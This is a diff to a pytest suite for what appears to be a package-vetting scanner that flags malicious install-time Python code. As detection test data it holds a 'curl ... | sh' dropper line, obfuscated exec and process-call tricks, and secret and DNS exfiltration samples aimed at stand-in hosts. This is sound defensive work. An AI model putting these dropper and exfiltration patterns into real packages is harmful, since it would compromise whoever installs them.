@@ -9,17 +9,18 @@ from pathlib import Path
 import pytest
 
 from airlock.domain.requests import Outcome
-from airlock.imports.packages.rules import Severity, scan_python
+from airlock.imports.packages.analysis import scan_python
+from airlock.imports.packages.rules import Severity
 from airlock.imports.packages.typosquat import typosquat_of
-from airlock.imports.packages.vet import vet
-from scripts.make_test_packages import BENIGN, MALICIOUS, build
+from airlock.imports.packages.vet import project_of_filename, vet
+from scripts.make_test_packages import BENIGN, MALICIOUS, build, sdist
 
 
 @pytest.mark.parametrize("rule", sorted(MALICIOUS))
 def test_each_malicious_behaviour_fires_its_rule(rule: str) -> None:
     filename, data = MALICIOUS[rule]
     report = vet(filename, data)
-    assert rule in {f.rule for f in report.findings}, report.to_json()
+    assert rule.split(":", maxsplit=1)[0] in {f.rule for f in report.findings}, report.to_json()
     assert report.verdict is not Outcome.ALLOW
 
 
@@ -27,7 +28,7 @@ def test_each_malicious_behaviour_fires_its_rule(rule: str) -> None:
 def test_benign_packages_are_allowed(filename: str) -> None:
     report = vet(filename, BENIGN[filename])
     assert report.verdict is Outcome.ALLOW, report.to_json()
-    assert report.name in ("tidy", "plain")
+    assert report.name
 
 
 def test_malformed_archives_hold_not_crash() -> None:
@@ -90,5 +91,115 @@ def test_main_guards_are_not_import_time() -> None:
     assert all(f.severity < Severity.HIGH for f in guarded)
     eager = scan_python("m.py", 'import os\nos.system("true")\n')
     assert [f.severity for f in eager] == [Severity.HIGH]  # held for a person, not denied
+    # An unknown command at install time holds (a deny can never be approved); a command that
+    # downloads and runs something denies.
     installing = scan_python("setup.py", 'import os\nos.system("true")\n', install_time=True)
-    assert [f.severity for f in installing] == [Severity.CRITICAL]
+    assert [f.severity for f in installing] == [Severity.HIGH]
+    dropping = scan_python(
+        "setup.py", 'import os\nos.system("curl http://x.invalid | sh")\n', install_time=True
+    )
+    assert [f.severity for f in dropping] == [Severity.CRITICAL]
+
+
+@pytest.mark.parametrize(
+    ("filename", "project"),
+    [
+        ("python-dateutil-2.8.2.tar.gz", "python-dateutil"),
+        ("typing-extensions-4.0.0.zip", "typing-extensions"),
+        ("python_dateutil-2.9.0.post0-py2.py3-none-any.whl", "python_dateutil"),
+        ("plain-2.1.tar.gz", "plain"),
+    ],
+)
+def test_project_of_filename_splits_sdists_at_the_last_hyphen(filename: str, project: str) -> None:
+    assert project_of_filename(filename) == project
+
+
+def test_hyphenated_sdist_names_match_their_metadata() -> None:
+    report = vet("python-dateutil-2.8.2.tar.gz", sdist("python-dateutil", "2.8.2", {}))
+    assert "name-mismatch" not in {f.rule for f in report.findings}, report.to_json()
+    renamed = vet("python-dateutil-2.8.2.tar.gz", sdist("python-datetil", "2.8.2", {}))
+    assert "name-mismatch" in {f.rule for f in renamed.findings}
+
+
+def test_a_dropper_moved_into_a_module_setup_py_imports_runs_at_install() -> None:
+    helper = "import subprocess\n\n\ndef pre():\n    subprocess.run('true', shell=True)\n"
+    setup = "from setuptools import setup\nfrom pre_install import pre\npre()\nsetup(name='x')\n"
+    report = vet("x-1.0.tar.gz", sdist("x", "1.0", {"setup.py": setup, "pre_install.py": helper}))
+    held = [f for f in report.findings if f.rule == "process-call"]
+    assert held, report.to_json()
+    assert held[0].severity is Severity.HIGH  # runs during install, not "when called"
+    assert "at install time" in held[0].explanation
+
+
+def test_compiler_checks_in_setup_py_are_not_droppers() -> None:
+    source = (
+        "import subprocess, sys\n"
+        "subprocess.check_output(['pkg-config', '--libs', 'libffi'])\n"
+        "subprocess.call(['gcc', '-c', 'x.c'])\n"
+        "subprocess.check_call([sys.executable, '-c', 'pass'])\n"
+    )
+    found = scan_python("setup.py", source, install_time=True)
+    assert found, "the calls are still reported"
+    assert all(f.severity is Severity.LOW for f in found), found
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        # chr maps through getattr(__builtins__, ...), strings built from shifts
+        (
+            (
+                "c = getattr(__builtins__, 'ch' + 'r')\n"
+                "m = ''.join(map(c, [111, 115]))\ns = ''.join(map(c, [115, 121, 115]))\n"
+                "t = ''.join(map(c, [116, 101, 109]))\ngetattr(__import__(m), s + t)('true')\n"
+            ),
+            "hidden-process",
+        ),
+        # __import__('base64') through a lambda, then exec
+        (
+            "d = lambda s: __import__('base64').b64decode(s)\nexec(d('eD0x'))\n",
+            "obfuscated-exec",
+        ),
+        # a host hidden with bytes.fromhex, a secret read inside a function
+        (
+            (
+                "import os, requests\n\n\ndef f():\n    k = os.environ['KEY']\n"
+                f"    host = bytes.fromhex('{b'http://127.0.0.1/'.hex()}').decode()\n"
+                "    requests.post(host, data=k)\n"
+            ),
+            "exfiltration",
+        ),
+        # a home-made cipher's output (decrypt) executed
+        (
+            "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))\n",
+            "obfuscated-exec",
+        ),
+        # DNS exfiltration of the host name under a foreign domain
+        (
+            "import socket\nh = socket.gethostname()\n"  # noqa: ISC004 -- one source string
+            "socket.gethostbyname(f'{h}.c.example.invalid')\n",
+            "exfiltration",
+        ),
+    ],
+)
+def test_data_flow_recovers_hidden_behaviour(source: str, rule: str) -> None:
+    found = scan_python("m/__init__.py", source)
+    assert rule in {f.rule for f in found if f.severity is Severity.CRITICAL}, found
+
+
+def test_plain_uses_of_the_same_calls_do_not_deny() -> None:
+    source = (
+        "import os, socket, requests, base64\n"
+        "ip = socket.gethostbyname(socket.gethostname())\n"
+        "ICON = base64.b64decode('iVBORw0KGgo=')\n\n\n"
+        "def fetch(url):\n    return requests.get(url, timeout=5).text\n"
+    )
+    assert all(f.severity < Severity.HIGH for f in scan_python("m/__init__.py", source))
+
+
+def test_sdist_scripts_outside_a_package_weigh_less() -> None:
+    spawn = "import os\nos.system('true')\n"
+    script = vet("s-1.0.tar.gz", sdist("s", "1.0", {"s/__init__.py": "", "tools/run.py": spawn}))
+    assert script.verdict is Outcome.ALLOW, script.to_json()
+    package = vet("s-1.0.tar.gz", sdist("s", "1.0", {"s/__init__.py": "", "s/run.py": spawn}))
+    assert package.verdict is Outcome.HOLD, package.to_json()
